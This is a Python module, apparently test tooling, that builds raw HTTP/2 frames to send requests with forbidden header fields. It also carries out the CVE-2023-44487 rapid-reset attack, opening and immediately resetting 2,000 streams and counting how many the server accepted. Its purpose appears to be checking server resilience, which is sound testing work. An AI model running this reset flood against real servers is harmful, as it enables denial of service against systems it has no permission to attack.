"""HTTP/2 requests that HTTP libraries do not send: requests with forbidden header fields, and the attack of
CVE-2023-44487. In this attack, a client opens streams and resets each one at once, as fast as it can.
"""

from __future__ import annotations

import socket
import ssl
import struct
from collections.abc import Iterator, Sequence

RESET_STREAMS = 2_000
_HEADERS, _RST_STREAM, _GOAWAY = 1, 3, 7  # Types of HTTP/2 frames (RFC 9113, section 6).
_PROTOCOL_ERROR, _REFUSED_STREAM = 1, 7  # HTTP/2 error codes (RFC 9113, section 7).
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# The request headers in the format HPACK (RFC 7541). The first two bytes are indexes in HPACK's static table: the
# method GET and the scheme https. The path and the host follow as literal values.
_GET = b"\x82\x87\x04%c%s\x41\x09localhost"
_STATUS_200 = b"\x88"  # The index in HPACK's static table for a response with the status 200.


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Returns the bytes of an HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def reset_streams(attacker: ssl.SSLSocket) -> int:
    """Opens RESET_STREAMS streams on a new connection, each with a request for `/reset`, and resets each stream at
    once. Returns the number of streams that the server accepted.
    """
    headers = _get("/reset")
    cancel = struct.pack(">I", 8)
    streams = range(1, 2 * RESET_STREAMS + 1, 2)
    attacker.sendall(_PREFACE + frame(4, 0, 0, b""))
    attacker.sendall(b"".join(frame(1, 5, each, headers) + frame(_RST_STREAM, 0, each, cancel) for each in streams))
    return _accepted(attacker)


def answer(client: ssl.SSLSocket, path: str, fields: Sequence[tuple[str, str]]) -> str:
    """Sends a GET request with the header fields `fields` on a new connection. Returns "200" if the response has that
    status, "PROTOCOL_ERROR" if the server resets the stream with that error, and otherwise a description of the frame
    that the server sends.
    """
    client.sendall(_PREFACE + frame(4, 0, 0, b"") + frame(_HEADERS, 5, 1, _get(path, fields)))
    for kind, stream, payload in _frames(client):
        if kind == _HEADERS and payload.startswith(_STATUS_200):
            return "200"
        if kind == _RST_STREAM and int.from_bytes(payload, "big") == _PROTOCOL_ERROR:
            return "PROTOCOL_ERROR"
        if stream == 1 or kind == _GOAWAY:
            return f"a frame of type {kind}: {payload!r}"
    raise AssertionError("the connection ended without an answer")


def _get(path: str, fields: Sequence[tuple[str, str]] = ()) -> bytes:
    """Returns the header fields of a GET request in HPACK. Names and values must be shorter than 127 bytes."""
    literals = b"".join(
        b"\0%c%s%c%s" % (len(name), name.encode(), len(value), value.encode()) for name, value in fields
    )
    return _GET % (len(path), path.encode()) + literals


def _accepted(attacker: socket.socket) -> int:
    """Returns how many streams the server accepted. The server's GOAWAY frame names the last stream that the server
    processed. Earlier streams count, except for those that the server refused with REFUSED_STREAM (RFC 9113, sections
    6.8 and 8.7).
    """
    refused = 0
    for kind, _, payload in _frames(attacker):
        if kind == _RST_STREAM and int.from_bytes(payload, "big") == _REFUSED_STREAM:
            refused += 1
        elif kind == _GOAWAY:
            return (int.from_bytes(payload[:4], "big") + 1) // 2 - refused
    raise AssertionError("the connection ended without a GOAWAY frame")


def _frames(connection: socket.socket) -> Iterator[tuple[int, int, bytes]]:
    """Yields the type, the stream and the payload of each frame, until the server ends the connection."""
    received = b""
    while part := connection.recv(1 << 16):
        received += part
        while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
            end = 9 + int.from_bytes(received[:3], "big")
            yield received[3], int.from_bytes(received[5:9], "big"), received[9:end]
            received = received[end:]
